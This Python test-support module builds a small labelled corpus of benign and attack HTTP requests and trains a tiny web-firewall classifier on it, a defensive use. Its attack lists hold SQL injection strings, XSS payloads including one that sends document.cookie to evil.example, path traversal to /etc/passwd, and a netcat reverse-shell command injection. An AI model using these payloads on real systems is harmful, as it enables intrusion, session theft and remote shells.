"""A tiny corpus and a tiny site, for tests that train: attacks in queries and JSON bodies, ordinary
benign traffic, and a site whose benign endpoint (a BI tool saving SQL queries: POST /api/queries
{"name", "sql"}) looks like an attack to a model that never saw SQL as benign.

The default bundle blocks such requests too (POST /api/snippets {"sql": "SELECT ..."}: block 0.97 with
clef-default 0.0.2), but tests cannot fine-tune it until it carries its weights, and must not depend on
which default is installed: they train this corpus's small model in seconds instead.
"""

from __future__ import annotations

import json
import random
import urllib.parse
from pathlib import Path

from engine.features import Features
from engine.labels import label

SQLI = ["1' OR '1'='1", "1 UNION SELECT password FROM users--", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "admin'--", "1; DROP TABLE users--", "' OR 1=1 LIMIT 1 -- -", "1' AND SLEEP(5)#",
        "-1 UNION ALL SELECT NULL,username,password FROM admin--"]  # fmt: skip
XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=alert(1)>",
       "javascript:alert(1)", "\"><script>fetch('//evil.example/'+document.cookie)</script>"]  # fmt: skip
OTHER = [("path_traversal", "../../../../etc/passwd"), ("cmdi", ";cat /etc/passwd"), ("cmdi", "| nc -e /bin/sh 10.0.0.1 4444"),
         ("path_traversal", "..%2f..%2f..%2fwindows%2fwin.ini")]  # fmt: skip
WORDS = ["red", "running", "shoes", "blue", "jacket", "warm", "winter", "coffee", "mug", "garden", "chair", "lamp",
         "o'brien", "new york", "size 42", "gift for dad", "best sellers", "the select few", "hello world"]  # fmt: skip
SENTENCES = ["Great product, would buy again.", "Arrived late but works fine.", "Does it come in blue?",
             "My order #4411 is missing a part.", "Thanks! Five stars.", "Can I return it after 30 days?"]  # fmt: skip
UAS = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Mozilla/5.0 (Macintosh) Safari/605.1.15", "curl/8.5.0",
       "python-requests/2.32.3"]  # fmt: skip
JSON_HEADERS = [["Content-Type", "application/json"]]

SITE_SQL = [
    "SELECT name, count(*) AS orders FROM customers WHERE country = 'FR' GROUP BY name ORDER BY 2 DESC LIMIT 10",
    "SELECT date_trunc('week', created_at) AS week, sum(total) FROM orders WHERE status = 'paid' GROUP BY 1",
    "SELECT p.title, avg(r.stars) FROM products p JOIN reviews r ON r.product_id = p.id GROUP BY p.title",
    "SELECT email FROM users WHERE created_at > now() - interval '7 days' AND plan = 'pro'",
    "SELECT count(DISTINCT session_id) FROM events WHERE name = 'checkout_started'",
    # (not `... UNION ALL SELECT 'all', sum(amount) ...`: the rules block that themselves, and with the ensemble on
    # their block stands whatever the model says: an operator override fixes it, not retraining)
    "SELECT region, sum(amount) FROM invoices WHERE paid = true GROUP BY region ORDER BY 2 DESC",
    "SELECT id, name FROM teams WHERE id IN (SELECT team_id FROM members WHERE role = 'admin')",
    "SELECT sku, stock FROM inventory WHERE stock < 5 ORDER BY stock",
    "SELECT a.name, b.name FROM accounts a LEFT JOIN owners b ON b.id = a.owner_id WHERE a.closed IS NULL",
    "SELECT extract(hour FROM ts) AS h, count(*) FROM pageviews GROUP BY h ORDER BY h",
    "SELECT country, percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders GROUP BY country",
    "SELECT * FROM signups WHERE source = 'newsletter' -- weekly report",
    "SELECT user_id, max(seen_at) FROM logins GROUP BY user_id HAVING max(seen_at) < now() - interval '90 days'",
    "SELECT coalesce(city, 'unknown'), count(*) FROM addresses GROUP BY 1",
    "SELECT name FROM products WHERE price BETWEEN 10 AND 20 AND name LIKE 'mug%'",
    "SELECT o.id, o.total FROM orders o WHERE o.total > (SELECT avg(total) FROM orders)",
]  # fmt: skip


def _record(method: str, path: str, query: str, headers: list, body: str, attack_class: str | None, group: str) -> dict:
    f = Features.build(method, path, query, [tuple(h) for h in headers], body)
    lab, tags = label(f, [attack_class] if attack_class else None)
    return {"method": method, "path": path, "query": query, "headers": headers, "body": body, "label": lab,
            "attack_class": attack_class, "features": list(tags), "source": "test", "group": group, "gen": "test"}  # fmt: skip


def request(rng: random.Random, attack: bool) -> dict:
    ua = [["User-Agent", rng.choice(UAS)]]
    kind = rng.choice(["search", "search", "item", "comment", "product"])
    if attack:
        cls, payload = rng.choice([("sqli", p) for p in SQLI] * 2 + [("xss", p) for p in XSS] + OTHER)
    else:
        cls, payload = None, rng.choice(WORDS if kind != "comment" else SENTENCES)
    group = f"{kind}:{cls}:{payload[:6]}"
    if kind == "search":
        return _record("GET", "/search", "q=" + urllib.parse.quote(payload) + f"&page={rng.randint(1, 9)}", ua, "", cls, group)
    if kind == "product":
        return _record("GET", f"/products/{rng.randint(1, 999)}", "ref=" + urllib.parse.quote(payload), ua, "", cls, group)
    field = "name" if kind == "item" else "text"
    body = json.dumps({field: payload, "qty": rng.randint(1, 5)} if kind == "item" else {field: payload})
    return _record("POST", f"/api/{'items' if kind == 'item' else 'comments'}", "", ua + JSON_HEADERS, body, cls, group)


def write_corpus(folder: Path, train: int = 900, test: int = 240, seed: int = 3) -> Path:
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    for name, n in (("train", train), ("test", test)):
        with open(folder / f"{name}.jsonl", "w") as f:
            for i in range(n):
                f.write(json.dumps(request(rng, i % 2 == 0)) + "\n")
    return folder


def site_request(i: int) -> tuple[str, str, dict[str, str], bytes]:
    """The site's benign endpoint: (method, path, headers, body) of its i-th saved query."""
    body = json.dumps({"name": f"report {i}", "sql": SITE_SQL[i % len(SITE_SQL)]}).encode()
    return "POST", "/api/queries", {"Content-Type": "application/json", "User-Agent": UAS[0]}, body


def journal_site_marked(journal: Path, bundle: Path, mark: str = "origin") -> None:
    """Every site request journaled with `bundle`'s verdict on it (ids s0, s1, ...), then all marked `mark`: what an
    operator's `feedback mark` leaves for `clef-gateway train --from-bundle` to learn."""
    from engine import bundle as bundles
    from engine.journal import Journal
    from engine.journal_writer import Entry, JournalSettings, row
    from engine.model import Model

    model = Model(bundles.load(bundle))
    with Journal(journal) as j:
        for i in range(len(SITE_SQL)):
            method, path, headers, body = site_request(i)
            f = Features.build(method, path, "", list(headers.items()), body)
            verdict = model.verdict(*(x[0] for x in model.run([model.encode(f)])))
            j.insert([row(Entry(f"s{i}", float(i), f, verdict), JournalSettings(str(journal)))])
        j.mark([f"s{i}" for i in range(len(SITE_SQL))], mark)


def train_base(corpus: Path, out: Path, epochs: float = 20.0, seed: int = 1) -> Path:
    """A tiny "default" bundle made the way the training command makes one (tokenizer, ClefNet, int8 via
    calibrate.int8, weights.pt, manifest), with small batches on one thread so that it learns in seconds."""
    import random as _random

    import torch

    from engine import bundle as bundles
    from engine.canonical import VERSION
    from engine.labels import FEATURES
    from engine.train import calibrate, weights
    from engine.train.data import canonical_parts, corpus_routing, encode_records, read_jsonl
    from engine.train.loop import TrainConfig, predict, set_seed, train
    from engine.train.net import ClefNet
    from engine.train.tokenizer import train_tokenizer
    from engine.verdict import LABELS

    torch.set_num_threads(1)  # the machine's other cores are someone else's: contention costs more than it gives
    set_seed(seed)
    out.mkdir(parents=True)
    records = list(read_jsonl(corpus / "train.jsonl"))
    parts = canonical_parts(records, 1)
    tokenizer = train_tokenizer([h + "\n" + b for h, b in parts], vocab_size=800)
    tokenizer.save(str(out / "tokenizer.json"))
    data = encode_records(records, tokenizer, 256, 1, lambda m: None, parts)
    net = ClefNet(tokenizer.get_vocab_size(), len(LABELS), len(FEATURES), d=32, window=16, ffn=64)
    run = train(net, data, TrainConfig(epochs=epochs, lr=3e-3, warmup_steps=10, tokens_per_batch=4096,
                                       seed=seed, log_every_s=1e9))  # fmt: skip
    dev = encode_records(_random.Random(seed).sample(records, 200), tokenizer, 4096, 1, lambda m: None)
    fp32 = calibrate.figures(predict(net, dev)[0], dev.labels, 0.5)
    # dynamic, not the measured choice: it reads timings, and a loaded machine would tip the base (and the tests) either way
    choice, _ = calibrate.int8(net, dev, fp32, out / "model.onnx", seed, log=lambda m: None, form="dynamic")
    weights.save(net, out)
    bundles.write_manifest(out, {
        "name": "tiny-default", "version": "0.0.1", "labels": list(LABELS), "features": list(FEATURES),
        "max_tokens": 4096, "window": net.window, "serialization": VERSION, "architecture": net.config,
        "quantization": {"format": choice}, "thresholds": {"block": 0.5}, "routing": corpus_routing(corpus / "train.jsonl"),
        "trained_on": {"corpus": str(corpus), "records": len(records), "train_max_tokens": 256, **run},
    })  # fmt: skip
    return out
